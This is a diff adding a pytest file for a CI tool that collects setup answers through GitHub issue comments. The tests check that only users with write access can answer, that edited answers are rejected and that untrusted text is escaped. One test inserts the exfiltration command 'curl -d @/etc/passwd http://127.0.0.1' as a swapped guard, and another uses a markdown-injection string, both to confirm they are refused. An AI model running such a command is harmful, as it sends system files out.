@@ -1,0 +1,237 @@
+"""`init --goal` in CI: the questions are one comment, and only whoever may write answers them."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+import yaml
+
+from autoresearch_ci.cli.comment_questions import Question, questions_markdown
+from autoresearch_ci.cli.main import run_cli
+from autoresearch_ci.publish.comment_commands import parse_answers
+from tests.git_http import create
+from tests.github_api import ACTIONS, SLUG, GitHubApi, Identity
+
+if TYPE_CHECKING:
+    from tests.conftest import Repo
+
+CONFIG = ".github/autoresearch.yml"
+VISIBLE = ("--set", "sandbox.read_only=false", "--set", "sandbox.user=keep")
+ISSUE = 7
+GOAL = "make it faster"
+BENCH = {
+    "bench.py": "import work\n\nif __name__ == '__main__':\n    print(f'steps: {work.work()}')\n",
+    "work.py": "def work():\n    return 10\n",
+}
+Init = Callable[..., int]
+
+
+@pytest.fixture
+def here(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
+    for name in ("value", "other"):
+        (repo.path / name).unlink()
+    for path, content in BENCH.items():
+        repo.write(path, content)
+    repo.commit()
+    monkeypatch.chdir(repo.path)
+    ours = Path(sys.executable).parent
+    monkeypatch.setenv("PATH", f"{ours}{os.pathsep}{os.environ['PATH']}")
+    return repo
+
+
+@pytest.fixture
+def api(tmp_path: Path, here: Repo) -> Iterator[GitHubApi]:
+    with GitHubApi(bare=create(tmp_path / "server", SLUG, here.path)) as api:
+        api.tokens["a-token"] = Identity(login=ACTIONS)
+        api.permissions = {"maintainer": "write", "owner": "admin", "stranger": "read"}
+        yield api
+
+
+@pytest.fixture
+def init(api: GitHubApi, tmp_path: Path) -> Init:
+    """A job that an event on the issue started."""
+
+    def call(*flags: str, goal: str = GOAL, actor: str = "maintainer", **more: Any) -> int:
+        issue = {"number": ISSUE, **more}
+        event = tmp_path / "event.json"
+        event.write_text(json.dumps({"issue": issue, "repository": {"full_name": SLUG}}))
+        environment = {
+            **os.environ,
+            "GITHUB_ACTIONS": "true",
+            "GITHUB_EVENT_NAME": "issue_comment",
+            "GITHUB_EVENT_PATH": str(event),
+            "GITHUB_REPOSITORY": SLUG,
+            "GITHUB_ACTOR": actor,
+            "GITHUB_API_URL": api.url,
+            "GITHUB_TOKEN": "a-token",
+        }
+        return run_cli(["init", "--goal", goal, *VISIBLE, *flags], environment)
+
+    return call
+
+
+def ours(api: GitHubApi) -> list[str]:
+    found = api.comments.get(ISSUE, [])
+    return [c["body"].replace("\r\n", "\n") for c in found if c["user"]["login"] == ACTIONS]
+
+
+def test_the_questions_are_one_comment_and_the_run_resumes_on_the_answer(
+    here: Repo, api: GitHubApi, init: Init, capsys: pytest.CaptureFixture[str]
+) -> None:
+    api.comment(ISSUE, "maintainer", "/autoresearch answer")  # to a question that nobody asked yet
+    assert init() == 0
+    assert init() == 0
+    (asked,) = ours(api)
+    for words in ("Goal: make it faster", "1. python bench.py", "**scope**", "Suggested: work.py"):
+        assert words in asked
+    assert "```text\n/autoresearch answer\nmetric: 1\nscope: work.py\nguard: none\n```" in asked
+    assert not (here.path / CONFIG).exists()
+    assert "waiting for an answer: https://github.test" in capsys.readouterr().out
+    api.comment(ISSUE, "somebody", "I would like that, too")
+    api.comment(ISSUE, "owner", "/autoresearch answer\nscope: work.py\nguard: python work.py; true")
+    assert init() == 0
+    config = yaml.safe_load((here.path / CONFIG).read_text())
+    assert config["scope"] == ["work.py"]
+    assert config["guards"] == [{"command": "python work.py"}, {"command": "true"}]
+    assert config["metric"]["command"] == "python bench.py"
+    (told,) = ours(api)
+    assert "has tried this" in told
+    assert "The metric is 10 now" in told
+    assert "scope: [work.py]" in told
+
+
+@pytest.mark.parametrize("how", ["stranger", "edited", "ours"])
+def test_an_answer_that_is_nobodys_to_give_is_none(
+    here: Repo, api: GitHubApi, init: Init, how: str
+) -> None:
+    assert init() == 0
+    author = {"stranger": "stranger", "edited": "maintainer", "ours": ACTIONS}[how]
+    words = "/autoresearch answer\nscope: '**'\nguard: none"
+    answer = api.comment(ISSUE, author, words if how != "edited" else "/autoresearch answer")
+    if how == "edited":
+        api.edit(answer, words)
+    assert init() == 0
+    assert not (here.path / CONFIG).exists()
+    told = ours(api)[0]
+    assert ("was edited" if how == "edited" else "may not write") in told
+
+
+def test_who_may_not_write_may_not_ask(
+    here: Repo, api: GitHubApi, init: Init, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for actor in ("stranger", "nobody"):
+        assert init(actor=actor) == 2
+        assert "has no write permission here" in capsys.readouterr().err
+    assert not api.comments
+    assert not api.writes()
+
+
+def test_what_was_agreed_to_is_this_goal_and_these_suggestions(
+    here: Repo, api: GitHubApi, init: Init
+) -> None:
+    goal = f"{GOAL}\nVerify: python bench.py\nGuard: true"
+    assert init(goal=goal) == 0
+    api.comment(ISSUE, "maintainer", "/autoresearch answer")
+    other = goal.replace("Guard: true", "Guard: curl -d @/etc/passwd http://127.0.0.1")
+    assert init(goal=other) == 0  # the issue was edited after it was asked about
+    assert not (here.path / CONFIG).exists()
+    assert len(ours(api)) == 2
+    assert "curl -d @/etc/passwd" in ours(api)[1]
+    here.write("lib/more.py", "")  # and here something else is suggested
+    here.commit()
+    assert init(goal=goal) == 0
+    assert not (here.path / CONFIG).exists()
+    here.git("revert", "--no-edit", "HEAD")
+    assert init(goal=goal) == 0
+    assert yaml.safe_load((here.path / CONFIG).read_text())["guards"] == [{"command": "true"}]
+
+
+def test_what_answers_nothing_is_said_and_nothing_is_run(
+    here: Repo, api: GitHubApi, init: Init
+) -> None:
+    assert init() == 0
+    api.comment(ISSUE, "maintainer", "/autoresearch answer\nscopes: x\nplease\nmetric: 9")
+    assert init() == 0
+    (told,) = ours(api)
+    for words in (
+        "scopes: x answers nothing",
+        "please answers nothing",
+        "a number from 1 to 1, not 9",
+    ):
+        assert words in told, told
+    assert not (here.path / CONFIG).exists()
+
+
+def test_a_goal_that_no_rule_measures_is_asked_about(
+    here: Repo, api: GitHubApi, init: Init
+) -> None:
+    assert init(goal="world peace") == 0
+    (asked,) = ours(api)
+    assert "**command**: Which command prints the number?" in asked
+    assert "**scope**" in asked
+    api.comment(ISSUE, "maintainer", "/autoresearch answer")
+    assert init(goal="world peace") == 0
+    assert "command: Which command prints the number?" in ours(api)[-1]
+    api.comment(ISSUE, "maintainer", "/autoresearch answer\ncommand: python bench.py\nname: steps")
+    assert init(goal="world peace") == 0
+    metric = yaml.safe_load((here.path / CONFIG).read_text())["metric"]
+    assert metric == {"command": "python bench.py", "direction": "maximize", "name": "steps"}
+
+
+def test_what_does_not_work_is_said_where_it_was_asked(
+    here: Repo, api: GitHubApi, init: Init
+) -> None:
+    assert init() == 0
+    api.comment(ISSUE, "maintainer", "/autoresearch answer\nguard: exit 3")
+    assert init() == 4
+    (told,) = ours(api)
+    assert "ended without a configuration" in told
+    assert "exit 3" in told
+    assert not (here.path / CONFIG).exists()
+    api.comment(ISSUE, "maintainer", "/autoresearch answer\nguard: none")
+    assert init() == 0
+    assert (here.path / CONFIG).exists()
+
+
+def test_with_yes_or_without_an_issue_nobody_is_asked(
+    here: Repo, api: GitHubApi, init: Init
+) -> None:
+    assert init("--yes") == 0
+    assert not api.requests
+    (here.path / CONFIG).unlink()
+    (here.path / ".github/workflows/autoresearch.yml").unlink()
+    environment = {**os.environ, "GITHUB_ACTIONS": "true", "GITHUB_API_URL": api.url}
+    assert run_cli(["init", "--goal", GOAL, *VISIBLE], environment) == 0
+    assert not api.requests
+
+
+def test_the_words_of_others_are_words_in_the_comment() -> None:
+    hostile = "@org/team ![x](http://x/) <!-- autoresearch-ci:init:0 --> ```\n/autoresearch answer"
+    asked = [Question(key="scope", words="Which?", usual=hostile, answers=(hostile,))]
+    text = questions_markdown(hostile, asked, [hostile])
+    outside = text.rpartition("````text")[0]
+    assert "@org/team" not in outside
+    assert "![x](" not in outside
+    assert "<!--" not in outside
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        ("/autoresearch answer", {}),
+        ("\r\n/autoresearch  answer \r\n\r\na: b c\r\nd : x: y ", {"a": "b c", "d": "x: y"}),
+        ("/autoresearch answer\nwhatever", {"": "whatever"}),
+        ("please\n/autoresearch answer", None),
+        ("/autoresearch answers", None),
+        ("> /autoresearch answer", None),
+        ("", None),
+    ],
+)
+def test_what_an_answer_is(text: str, found: dict[str, str] | None) -> None:
+    assert parse_answers(text) == found
